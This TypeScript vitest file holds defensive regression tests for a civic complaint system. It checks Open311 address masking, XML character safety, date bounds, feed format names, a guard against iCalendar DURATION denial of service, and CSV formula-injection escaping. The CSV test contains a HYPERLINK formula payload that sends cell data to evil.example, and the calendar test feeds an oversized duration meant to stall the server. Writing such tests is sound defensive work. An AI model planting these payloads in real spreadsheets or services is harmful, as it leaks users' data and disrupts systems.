// Findings of an attack on issue 16's changes (Open311 visibility, feeds, iCalendar import,
// spreadsheets), each written as what a citizen, a client or a staff member would notice.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { makeEnv, form, type TestEnv } from '../helpers.js';
import { createApiKey } from '../../src/modules/appeals/api/open311.js';
import { parseCalendarGuarded } from '../../src/platform/calendar/import.js';
import { xlsxTable } from '../../src/platform/files/extract.js';
import { readCsv, toCsv } from '../../src/platform/files/csv.js';

let env: TestEnv;
let key: string;
beforeAll(async () => {
  env = await makeEnv({ env: { GONGKAI_APPEALS_RATE_LIMIT: '1000' } });
  key = (await createApiKey(env.p, 'test', 'attack-client')).key;
});
afterAll(async () => env?.close());

const get = (url: string) => env.app.inject({ method: 'GET', url });
const post = (fmt: 'json' | 'xml', data: Record<string, string>) =>
  env.app.inject({ method: 'POST', url: `/open311/v2/requests.${fmt}`, headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: form({ api_key: key, service_code: 'noise', ...data }) });
/** Characters XML 1.0 does not allow (with the u flag, an unpaired surrogate is one of them). */
const NOT_XML = /[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u;

describe('Open311: what anyone sees of a request whose text is not public', () => {
  it('an address the masking finds nothing in is not shown whole: no third party’s name, no landmark, no house', async () => {
    for (const [address, shown] of [
      ['幸福路与黄河路交叉口东北角王建国家门口', '幸福路'],
      ['新胜大街张三烧烤店', '新胜大街'],
      ['room 501, No.18 Xingfu Rd', null],
      ['我家在幸福路，电话13912345678', '我家在幸福路'],
      ['海滨路幸福家园5号楼一单元302', '海滨路'],
      ['学府小区3栋2单元501室', '学府小区'],
      ['海滨路', '海滨路'],
    ] as const) {
      const r = await post('json', { address_string: address, description: '夜间施工噪音扰民' });
      expect(r.statusCode).toBe(201);
      const one = (await get(`/open311/v2/requests/${r.json()[0].service_request_id}.json`)).json()[0];
      expect(one.address, address).toBe(shown);
    }
  });

  it('XML stays well-formed whatever characters a citizen typed (U+FFFE, U+FFFF)', async () => {
    const r = await post('json', { address_string: '海滨路\uffff\ufffe', description: '夜间施工噪音扰民\uffff' });
    expect(r.statusCode).toBe(201);
    const no = r.json()[0].service_request_id;
    for (const url of [`/open311/v2/requests/${no}.xml`, `/open311/v2/requests/${no}.xml?api_key=${key}`, '/open311/v2/requests.xml']) {
      const x = await get(url);
      expect(x.statusCode, url).toBe(200);
      expect(x.body, url).toContain('<address>海滨路');
      expect(NOT_XML.exec(x.body), url).toBeNull();
    }
  });

  it('dates at the ends of what JavaScript can hold are a 400, not a 500', async () => {
    for (const q of ['end_date=-271821-04-20T00:00:00Z', 'start_date=%2B275760-09-13T00:00:00Z', 'start_date=-271821-04-20T00:00:00Z&end_date=-271821-04-21T00:00:00Z']) {
      const r = await get(`/open311/v2/requests.json?${q}`);
      expect(r.statusCode, q).toBe(400);
      expect(r.json()[0].description, q).toMatch(/start_date and end_date/);
    }
  });
});

describe('feeds', () => {
  it('a format named like an Object property is a 400, not a 500', async () => {
    for (const fmt of ['constructor', 'toString', '__proto__', 'hasOwnProperty']) expect((await get(`/catalog/feed.${fmt}`)).statusCode, fmt).toBe(400);
  });
});

describe('iCalendar import', () => {
  it('an event without a recurrence cannot hold the server: a huge DURATION is read in the thread that is stopped', async () => {
    // ical.js adds a duration month by month: P10000000000D is ~37 s of work on the event loop.
    const ics = ['BEGIN:VCALENDAR', 'VERSION:2.0', 'PRODID:x', 'BEGIN:VEVENT', 'UID:a', 'DTSTAMP:20260101T000000Z', 'DTSTART;VALUE=DATE:20270101', 'DURATION:P10000000000D', 'SUMMARY:元旦', 'END:VEVENT', 'END:VCALENDAR', ''].join('\r\n');
    const r = await parseCalendarGuarded(Buffer.from(ics), undefined, 'x.ics', 1500);
    expect(r).toMatchObject({ format: 'ics', years: [], errors: [{ key: 'calendar.err.ics_timeout' }] });
  }, 120_000);
});

describe('spreadsheets', () => {
  const workbook = async (fill: (ws: ExcelJS.Worksheet, wb: ExcelJS.Workbook) => void) => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('清单');
    ws.getCell('A1').value = '名称';
    ws.getCell('B1').value = '网址';
    ws.getCell('A2').value = '元旦';
    fill(ws, wb);
    return Buffer.from(await wb.xlsx.writeBuffer());
  };
  const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');

  it('an XLSX with a hyperlink, an e-mail link, a picture or a table (Excel’s “Format as Table”) is read, not refused as damaged', async () => {
    const cases: Record<string, (ws: ExcelJS.Worksheet, wb: ExcelJS.Workbook) => void> = {
      hyperlink: (ws) => void (ws.getCell('B2').value = { text: 'www.example.gov.cn', hyperlink: 'http://www.example.gov.cn/' }),
      mailto: (ws) => void (ws.getCell('B2').value = { text: 'office@example.gov.cn', hyperlink: 'mailto:office@example.gov.cn' }),
      picture: (ws, wb) => {
        ws.getCell('B2').value = 'www.example.gov.cn';
        ws.addImage(wb.addImage({ buffer: PNG as any, extension: 'png' }), 'D4:E5');
      },
      table: (ws) => {
        ws.getCell('B2').value = 'www.example.gov.cn';
        ws.addTable({ name: 'T1', ref: 'A4', columns: [{ name: '名称' }, { name: '网址' }], rows: [['春节', 'x']] });
      },
    };
    for (const [name, fill] of Object.entries(cases)) {
      const t = await xlsxTable(await workbook(fill));
      expect(t.rows.slice(0, 2), name).toEqual([['名称', '网址'], ['元旦', expect.stringMatching(/example\.gov\.cn$/)]]);
    }
  });

  it('a CSV export does not hand a spreadsheet a formula, and reads back unchanged', () => {
    const rows = [['名称', '说明', '金额'], ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+86 411 1234', '-5'], ['@SUM(1)', '-cmd', '12.5']];
    const csv = toCsv(rows);
    const cells = csv.replace(/^\ufeff/, '').split('\r\n').slice(1, 3).flatMap((l) => l.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    for (const c of cells) expect(c.replace(/^"/, ''), c).not.toMatch(/^[=+@]|^-(?!\d+(\.\d+)?$)/);
    expect(readCsv(csv).rows).toEqual(rows);
  });
});
